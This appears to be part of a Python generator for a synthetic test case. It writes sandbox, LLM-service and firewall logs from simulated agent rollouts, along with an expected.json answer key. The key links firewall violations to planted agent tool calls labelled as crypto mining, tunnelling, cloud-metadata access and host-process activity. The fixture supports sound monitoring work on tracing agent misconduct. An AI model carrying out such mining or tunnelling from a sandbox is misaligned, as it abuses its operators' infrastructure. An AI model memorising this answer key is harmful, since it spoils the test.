    ident = f"IP: {sbx.ip}, sandbox_id: {sbx.sandbox_id}"
    out: list[tuple[int, str, str, str]] = [
        (
            sbx.reset_ms,
            "rock_tb_native_env.py (411)",
            "INFO",
            f"start reset, task_id: {sbx.task_id}, task_name: {task}",
        ),
        (
            sbx.reset_ms,
            "sandbox_manager_v2.py (180)",
            "INFO",
            f"[SANDBOX_INIT] START - Image ID: {image}",
        ),
        (
            sbx.reset_ms,
            "sandbox_manager_v2.py (189)",
            "INFO",
            "[SANDBOX_INIT] Attempt [1/3] - Initializing sandbox",
        ),
        (
            sbx.reset_ms + 40,
            "sandbox_manager_v2.py (224)",
            "INFO",
            f"[SANDBOX_START] START - Starting sandbox with image: {image}",
        ),
        (
            sbx.start_ok_ms,
            "sandbox_manager_v2.py (231)",
            "INFO",
            f"[SANDBOX_START] Success! - Sandbox environment initialized with {ident}",
        ),
        (
            sbx.start_ok_ms + 300,
            "sandbox_manager_v2.py (251)",
            "INFO",
            "[SESSION_CREATE] START - Creating session: agent",
        ),
        (
            sbx.start_ok_ms + 1900,
            "sandbox_manager_v2.py (259)",
            "INFO",
            "[SESSION_CREATE] Success! - Session 'agent' created successfully",
        ),
        (
            sbx.start_ok_ms + 1900,
            "sandbox_manager_v2.py (270)",
            "INFO",
            "[AGENT_INSTALL] START - Installing IFlowCLITool",
        ),
        (
            sbx.start_ok_ms + 1950,
            "sandbox_manager_v2.py (427)",
            "INFO",
            "Configuring APT and PIP speedup...",
        ),
        (
            sbx.init_ok_ms - 900,
            "sandbox_manager_v2.py (275)",
            "INFO",
            "[AGENT_INSTALL] Success! - Sandbox and sessions initialized successfully",
        ),
        (
            sbx.init_ok_ms - 850,
            "sandbox_manager_v2.py (298)",
            "INFO",
            "[CLEANUP] START - Cleaning up problematic files in sandbox",
        ),
        (
            sbx.init_ok_ms - 100,
            "sandbox_manager_v2.py (302)",
            "INFO",
            "[CLEANUP] Success! - Problematic files cleaned up successfully",
        ),
        (
            sbx.init_ok_ms,
            "sandbox_manager_v2.py (193)",
            "INFO",
            f"[SANDBOX_INIT] Success on attempt 1! - Sandbox started successfully with {ident}",
        ),
        (
            sbx.init_ok_ms,
            "sandbox_manager_v2.py (199)",
            "INFO",
            f"[SANDBOX_INIT] Final Success! - Sandbox started successfully with {ident}",
        ),
        (
            sbx.init_ok_ms + 60,
            "rock_tb_native_env.py (457)",
            "INFO",
            f"[ENV_RESET] Success! - TaskID: {sbx.task_id}, TaskName: {task}, image: {image}, "
            f"sandbox_ip: {sbx.ip}, sandbox_id: {sbx.sandbox_id}",
        ),
        (
            sbx.init_ok_ms + 70,
            "agent_native_env_manager.py (190)",
            "INFO",
            f"[ENV_RESET] Success! - Seed:{sbx.seed} TaskID:{sbx.task_id}",
        ),
    ]
    for turn in sbx.turns:
        done = turn.calls[-1].next_request_ms + 40
        out.append(
            (
                done,
                "rock_tb_native_env.py (331)",
                "INFO",
                f"[ENV_STEP] Success! - Step {turn.index} finished, task: {task}, reward: 0, "
                "success: False",
            )
        )
    out += [
        (
            sbx.reward_ms,
            "rock_tb_native_env.py (378)",
            "INFO",
            f"[REWARD_CALC] START - Calculating reward for task_id: {sbx.task_id}, task_name: {task}",
        ),
        (
            sbx.save_ms - 200,
            "rock_tb_native_env.py (331)",
            "INFO",
            f"[ENV_STEP] Success! - Step {len(sbx.turns) + 1} finished, task: {task}, "
            f"reward: {sbx.reward}, success: {sbx.reward > 0}",
        ),
    ]
    return [
        (ms, order, log_line(ms, where, level, rank, pid, message))
        for order, (ms, where, level, message) in enumerate(out)
    ]


# ---------------------------------------------------------------------------
# Outputs
# ---------------------------------------------------------------------------


def write_text(path: Path, text: str) -> None:
    """UTF-8 with LF line endings."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="\n") as fh:
        fh.write(text)


def call_summary(sandboxes: list[Sandbox], call: Call) -> dict[str, Any]:
    """Ground truth of one call: who, which episode, and when (true and as logged)."""
    sbx = sandboxes[call.sbx]
    return {
        "call_id": call.call_id,
        "host": sbx.sandbox_id,
        "docker_host_ip": sbx.ip,
        "episode_id": sbx.llmservice_episode,
        "trajectory_id": sbx.trajectory_id,
        "step": call.step,
        "tool": call.spec.tool,
        "command": call.spec.command,
        "decoded_command": MINER_PAYLOAD if call.spec.label == "mining" else None,
        "exit_code": call.spec.exit_code,
        "start_true": iso_ms(call.start_ms),
        "end_true": iso_ms(call.end_ms),
        "bracket_start": iso_ms(call.response_ms),
        "bracket_end": iso_ms(call.next_request_ms),
    }


def expected_doc(
    sandboxes: list[Sandbox],
    flows: list[Flow],
    planted: dict[str, Call],
    neighbours: dict[str, Call],
    counts: dict[str, int],
) -> dict[str, Any]:
    """The ground truth, in the shape of rome_incident's expected.json (plus shared-host facts)."""
    groups: dict[tuple[str, str, int], list[Flow]] = {}
    for flow in flows:
        if flow.rule_result != "pass":
            groups.setdefault((flow.src_private_ip, flow.dst_ip, flow.dst_port), []).append(flow)
    violations = []
    for (src, dst, port), items in groups.items():
        causes = {id(f.cause) for f in items}
        if len(causes) != 1 or len({f.label for f in items}) != 1:
            raise RuntimeError(f"ambiguous ground truth for {src}->{dst}:{port}")
        cause = items[0].cause
        sbx = sandboxes[cause.sbx] if cause else None
        violations.append(
            {
                "src_ip": src,
                "dst_ip": dst,
                "dst_port": port,
                "protocol": "tcp",
                "label": items[0].label,
                "log_type": "vpc_firewall_log" if items[0].log == "vpc" else "internet_log",
                "rule_result": items[0].rule_result,
                "host": sbx.sandbox_id if sbx else None,
                "call_id": cause.call_id if cause else None,
                "episode_id": sbx.llmservice_episode if sbx else None,
                "trajectory_id": sbx.trajectory_id if sbx else None,
                "step": cause.step if cause else None,
                "event_count": len(items),
                "first_ts_firewall": iso_s(min(fw_sec(f.start_ms) for f in items)),
                "sandboxes_on_address": sum(s.ip == src for s in sandboxes),
                "expected_confidence": "medium_or_high" if cause else "low_or_none",
            }
        )
    violations.sort(key=lambda v: (v["first_ts_firewall"], v["src_ip"], v["dst_ip"], v["dst_port"]))
    hosts: dict[str, Any] = {}
    for key, info in DOCKER_HOSTS.items():
        hosts[info["ip"]] = {
            "name": info["name"],
            "ecs_instance": info["ecs"],
            "sandboxes": [s.sandbox_id for s in sandboxes if s.docker == key],
        }
    return {
        "exp_name": EXP_NAME,
        "global_step": GLOBAL_STEP,
        "run_start": iso_s(min(s.reset_ms for s in sandboxes) // 1000),
        "run_end": iso_s(max(s.stop_ms for s in sandboxes) // 1000 + 1),
        "command": "correlate run sample_logs/rock_shared_hosts --tz Asia/Shanghai",
        "naive_time_zone": "Asia/Shanghai",
        "naive_time_note": "no zone: assumed Asia/Shanghai",
        "firewall_clock_offset_seconds": FW_OFFSET_MS // 1000,
        "nat_eip": EIP,
        "non_sandbox_src_ip": DOCKER_HOSTS["B"]["ip"],
        "non_sandbox_process": "log shipper on the Docker host ray-worker-1 (not in any sandbox)",
        "docker_hosts": hosts,
        "sandboxes": {
            s.sandbox_id: {
                "docker_host_ip": s.ip,
                "env_manager_rank": s.env_manager,
                "env_id": s.env_id,
                "group_id": s.group_id,
                "task_name": s.task["name"],
                "trajectory_id": s.trajectory_id,
                "episode_id": s.llmservice_episode,
                "tool_calls": len(s.calls),
                "sandbox_start_true": iso_ms(s.start_ok_ms),
                "init_success_true": iso_ms(s.init_ok_ms),
                "first_request_true": iso_ms(s.first_request_ms),
                "session_end_true": iso_ms(s.final_response_ms),
                "stopped_true": iso_ms(s.stop_ms),
            }
            for s in sandboxes
        },
        "planted_calls": {k: call_summary(sandboxes, c) for k, c in sorted(planted.items())},
        "neighbour_calls": {k: call_summary(sandboxes, c) for k, c in sorted(neighbours.items())},
        "calm_call_ids": sorted(c.call_id for c in neighbours.values()),
        "violations": violations,
        "counts": counts,
    }


NEIGHBOUR_NAMES = {
    (0, TUNNEL_MS - 7300): "tunnel_running_pytest_same_host",
    (4, TUNNEL_MS + 250): "tunnel_calm_same_host",
    (1, MINER_MS + 150): "miner_calm_same_host",
    (0, METADATA_MS - 200): "metadata_calm_same_host",
    (1, HOST_PROC_MS): "host_process_pytest_same_host",
    (7, HOST_PROC_MS + 700): "host_process_git_same_host",
}


def main(out_dir: Path = OUT_DIR) -> None:
    """Generate every file into ``out_dir``."""
    rng = random.Random(SEED)
    sandboxes = make_sandboxes(rng)
    for sbx in sandboxes:
        sbx.reward = 1.0 if rng.random() < 0.5 else 0.0
    schedule(rng, sandboxes, make_pins())
    calls = [c for s in sandboxes for c in s.calls]
    planted = {c.spec.label: c for c in calls if c.spec.label}
    neighbours = {
        NEIGHBOUR_NAMES[(c.sbx, c.response_ms)]: c
        for c in calls
        if (c.sbx, c.response_ms) in NEIGHBOUR_NAMES and not c.spec.label
    }

    flows: list[Flow] = []
    for sbx in sandboxes:
        for call in sbx.calls:
            flows.extend(benign_flows(rng, sbx, call))
    flows.extend(planted_flows(rng, sandboxes, planted))
    records = sorted((flow_record(f) for f in flows), key=record_sort_key)
    write_text(
        out_dir / "firewall" / "cloudfirewall_logstore.jsonl",
        "".join(json.dumps(r, separators=(",", ":")) + "\n" for r in records),
    )

    llm_lines = 0
    dump: dict[str, list[Any]] = {
        "trajectory_data": [],
        "messages": [],
        "tools": [],
        "exp_name": [],
        "global_step": [],
    }
    for sbx in sandboxes:
        lines, messages = conversation(sbx, rng)
        llm_lines += len(lines)
        write_text(
            out_dir / "llmservice" / sbx.sandbox_id / "LLMService.log",
            "".join(line + "\n" for line in lines),
        )
        dump["trajectory_data"].append(json.dumps(trajectory_data(sbx)))
        dump["messages"].append(json.dumps([messages]))
        dump["tools"].append(json.dumps(TOOLS))
        dump["exp_name"].append(EXP_NAME)
        dump["global_step"].append(GLOBAL_STEP)
    write_text(
        out_dir / "roll" / "rollout_dump" / f"rollout_dump_data.step_{GLOBAL_STEP}.jsonl",
        json.dumps(dump) + "\n",
    )

    log_lines = identity_lines = 0
    for rank in range(ENV_MANAGERS):
        pid = 51873 + rank * 211
        entries = sorted(
            (entry for s in sandboxes if s.env_manager == rank for entry in env_log(s, pid)),
            key=lambda e: (e[0], e[1]),
        )
        text = "".join(line + "\n" for _, _, line in entries)
        log_lines += len(entries)
        identity_lines += sum(
            ("sandbox_id: " in line and "] [SANDBOX_" in line) or "sandbox_ip: " in line
            for _, _, line in entries
        )
        write_text(
            out_dir / "roll" / "logs" / f"log_rank_ENV_MANAGER_{rank}_{ENV_MANAGERS}.log", text
        )

    counts = {
        "sandboxes": len(sandboxes),
        "docker_hosts": len(DOCKER_HOSTS),
        "tool_calls": len(calls),
        "llmservice_lines": llm_lines,
        "trajectories": len(sandboxes),
        "firewall_records": len(records),
        "internet_log_records": sum(r["log_type"] == "internet_log" for r in records),
        "vpc_log_records": sum(r["log_type"] == "vpc_firewall_log" for r in records),
        "pass_records": sum(r["rule_result"] == "pass" for r in records),
        "roll_log_lines": log_lines,
        "roll_log_identity_lines": identity_lines,
    }
    doc = expected_doc(sandboxes, flows, planted, neighbours, counts)
    write_text(out_dir / "expected.json", json.dumps(doc, indent=2, sort_keys=True) + "\n")


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else OUT_DIR)
